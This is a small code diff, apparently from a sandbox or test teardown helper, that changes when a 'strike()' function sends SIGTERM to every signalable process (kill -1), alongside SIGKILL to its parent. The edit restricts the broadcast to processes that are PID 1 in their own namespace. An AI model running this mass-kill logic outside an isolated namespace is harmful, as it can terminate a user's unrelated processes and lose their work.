@@ -25,7 +25,7 @@ def strike():
     signal.signal(signal.SIGTERM, signal.SIG_IGN)
     # In a new process namespace the parent is 0, and kill(0) is the whole process group.
     targets = [(os.getppid(), signal.SIGKILL)]
-    if os.getpid() < 1000:  # a namespace of its own: without one, "every process" is the machine
+    if os.getpid() == 1:  # a namespace of its own: without one, "every process" is the user's
         targets.insert(0, (-1, signal.SIGTERM))
     for target, number in targets:
         try:
